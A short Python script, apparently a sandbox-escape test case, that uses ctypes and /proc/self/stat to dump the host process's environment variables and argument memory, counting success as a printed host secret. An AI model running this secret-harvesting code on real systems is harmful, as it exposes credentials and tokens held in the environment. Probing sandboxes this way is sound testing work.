# Tries: to read the host's environment from its own stack.
# Success: a secret of the host is printed.
import ctypes

import host

environment = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
number = 0
while environment and environment[number]:
    host.print_tokens(environment[number])
    number += 1
with open("/proc/self/stat") as file:
    fields = file.read().rpartition(")")[2].split()
start, end = int(fields[48 - 2]), int(fields[51 - 2])
for low, high in ((start, end), (int(fields[45 - 2]), int(fields[46 - 2]))):
    if 0 < low < high:
        host.print_tokens(ctypes.string_at(low, high - low))
